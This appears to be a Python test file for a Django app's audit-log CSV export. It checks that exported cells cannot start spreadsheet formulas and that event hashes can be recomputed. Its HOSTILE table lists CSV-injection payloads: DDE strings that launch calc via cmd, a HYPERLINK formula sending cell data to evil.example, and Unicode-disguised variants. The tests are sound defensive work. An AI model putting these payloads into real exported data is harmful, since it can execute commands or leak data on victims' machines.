"""The event log as CSV: safe to open in a spreadsheet, and every hash can be computed again from it."""

import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import tracemalloc
from pathlib import Path

import pytest
import rfc8785
from django.db import connection
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import strategies as st

from reviews import actions, auditing
from reviews.models import Edition, Event
from tests.reviews.test_event_log import CSV, LOG, browser, events_of, seqs

DOCS = Path(__file__).parent.parent.parent / "docs" / "auditing.md"

#: What an attacker would put into a name or a comment, and what stands in the cell.
HOSTILE = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")': '\'=HYPERLINK("https://evil.example?x="&A1,"Click")',
    "=1": "'=1",
    "+1": "'+1",
    "-1": "'-1",
    "-2+3+cmd|' /C calc'!D2": "'-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1": "'\t=1",
    "\tplain": "'\tplain",
    "\r=1": "'\r'=1",
    "\rplain": "'\rplain",
    "\n=1": "'\n'=1",
    " =1": "' =1",
    "   +1": "'   +1",
    "\u00a0=1": "'\u00a0=1",
    "\u3000=1": "'\u3000=1",
    "\u200b=1": "'\u200b=1",
    "\ufeff=1": "'\ufeff=1",
    "＝1": "'＝1",
    "＋1": "'＋1",
    "－1": "'－1",
    "＠SUM": "'＠SUM",
    "﹦1": "'﹦1",
    " ＝1": "' ＝1",
    "'=1": "''=1",
    "a;=1": "a;'=1",
    "a; =1": "a;' =1",
    'a";=1': "a\";'=1",
    "a\n=1": "a\n'=1",
    "a\r\n-1": "a\r\n'-1",
    "=1\n=2;=3": "'=1\n'=2;'=3",
}
HARMLESS = [
    "",
    "Dr Ben",
    "O'Neill",
    "'t Hooft",
    "a=1",
    "1-2",
    "ada@example.org",
    'says "no"',
    "one\n\ntwo",
    "a, b; c",
    "a\t=1",
    "√2",
]


@pytest.fixture
def ann(people):
    """The auditor's browser."""
    return browser(people.ann)


@pytest.fixture
def story(line):
    """An article that was published and withdrawn."""
    return line.withdraw()


def exported(response):
    """The parsed CSV: its header and its rows as dicts."""
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize(("text", "cell"), HOSTILE.items())
def test_what_a_spreadsheet_would_take_for_a_formula_becomes_text(text, cell):
    assert auditing.cell(text) == cell
    assert auditing.text_as_written(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_everything_else_stays_as_it_is(text):
    assert auditing.cell(text) == text == auditing.text_as_written(text)


@given(st.text(st.sampled_from("'=+-@＝;\t\r\n \u200b\ufeff\"a,") | st.characters(exclude_categories=["Cs"])))
def test_no_text_starts_a_formula_and_each_comes_back_as_it_was(text):
    cell = auditing.safe_text(text)
    assert auditing.text_as_written(cell) == text
    for start in re.split(r"[;\r\n]", cell):
        assert not re.match(r"[\s\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠]", start)
    assert not cell.startswith(("\t", "\r"))


@given(st.recursive(st.text(st.sampled_from("=;+- '\"\n\ta")), lambda inner: st.lists(inner, max_size=3)))
def test_a_structure_stays_the_same_json_and_starts_no_formula(value):
    cell = auditing.cell({"x": value})
    assert rfc8785.dumps(json.loads(cell)) == rfc8785.dumps({"x": value})
    for start in re.split(r"[;\r\n]", cell):
        assert not re.match(r"\s*[=+\-@＝＋－＠]", start)


def test_the_csv_is_the_filtered_log_oldest_first(ann, story, people):
    assert [int(row["seq"]) for row in exported(ann.get(CSV))] == seqs()[::-1]
    assert [int(row["seq"]) for row in exported(ann.get(CSV, {"actor": people.ben.pk}))] == seqs(actor=people.ben)[::-1]
    page = ann.get(LOG, {"actor": people.ben.pk, "before": "999"}).content.decode()
    assert f'href="{CSV}?actor={people.ben.pk}"' in page


def test_the_csv_is_an_attachment_of_today_that_no_cache_keeps(ann, story):
    response = ann.get(CSV)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="events-\d{4}-\d\d-\d\d\.csv"', response["Content-Disposition"])
    assert "no-store" in response["Cache-Control"]
    assert response.streaming


def test_the_csv_is_rfc_4180_in_utf_8_with_a_byte_order_mark(ann, story):
    raw = b"".join(ann.get(CSV).streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf" + b'"seq","at","actor","actor_name","action","object_type","object_id",')
    assert raw.endswith(b'"\r\n')
    assert raw.count(b"\r\n") == Event.objects.count() + 1


def test_hostile_names_and_comments_are_text_in_the_csv_and_every_hash_can_be_recomputed(ann, people, line):
    for n, text in enumerate(HOSTILE):
        people.ada.first_name = text
        edition = line.submit()
        actions.recall(Edition.objects.get(pk=edition.pk), by=people.ada, reason=f"{text or n}".replace("\t", " "))
    rows = exported(ann.get(CSV))
    assert len(rows) == Event.objects.count() >= 2 * len(HOSTILE)
    for row in rows:
        for cell in row.values():
            assert not re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠﹦]", cell), cell
    assert [recomputed(row) for row in rows] == [row["hash"] for row in rows]
    assert [row["prev_hash"] for row in rows][1:] == [row["hash"] for row in rows][:-1]


def recomputed(row):
    """The hash of a parsed line of the CSV, as docs/auditing.md says how."""
    values = {name: auditing.text_as_written(cell) for name, cell in row.items() if name not in ("hash", "payload")}
    values |= {"seq": int(row["seq"]), "actor": int(row["actor"]), "payload": json.loads(row["payload"])}
    return hashlib.sha256(rfc8785.dumps(values)).hexdigest()


def test_the_script_in_the_docs_finds_what_was_changed_in_the_csv(ann, people, line, tmp_path):
    people.ada.first_name = "=1;\n\t=2; ＝3"
    line.publish()
    script, log = tmp_path / "check_events.py", tmp_path / "events.csv"
    script.write_text(re.search(r"```python\n(.*?)```", DOCS.read_text(), re.DOTALL).group(1))
    raw = b"".join(ann.get(CSV).streaming_content)

    def check(text):
        log.write_bytes(text)
        done = subprocess.run([sys.executable, script, log], capture_output=True, text=True, check=False)
        return done.returncode, done.stdout + done.stderr

    assert check(raw) == (0, f"{Event.objects.count()} events, 0 faults\n")
    code, said = check(raw.replace(b"approve it", b"reject it", 1))
    assert code == 1
    assert "its columns do not match its hash" in said
    last = Event.objects.latest("seq")
    before, _, after = raw.rpartition(last.prev_hash.encode())
    code, said = check(before + b"0" * 64 + after)
    assert code == 1
    assert f"Event {last.seq}: it does not continue event {last.seq - 1}" in said


def test_the_columns_in_the_docs_are_those_of_the_csv():
    table = DOCS.read_text().partition("| column | meaning |")[2].partition("\n\n")[0]
    named = [name for row in table.splitlines()[2:] for name in re.findall(r"`(\w+)`", row.split("|")[1])]
    assert named == list(auditing.COLUMNS)


def test_the_payload_stands_in_its_canonical_form(ann, story):
    for row in exported(ann.get(CSV)):
        payload = Event.objects.get(seq=row["seq"]).payload
        assert row["payload"] == rfc8785.dumps(payload).decode()


def test_the_csv_is_streamed_in_bounded_memory():
    payload = {"comment": "x" * 1000}
    rows = ({"seq": n, "payload": payload} for n in range(10_000))
    tracemalloc.start()
    size = sum(len(piece) for piece in auditing.csv_text(["seq", "payload"], rows))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert size > 10_000_000
    assert peak < 4_000_000


def test_the_events_are_read_while_they_are_sent(ann, line):
    line.submit()
    events_of(line.people.ada, 5)
    with CaptureQueriesContext(connection) as before:
        response = ann.get(CSV)
    with CaptureQueriesContext(connection) as meanwhile:
        assert len(exported(response)) == 6
    assert not [query for query in before if "payload" in query["sql"]]
    assert len([query for query in meanwhile if "payload" in query["sql"]]) == 1
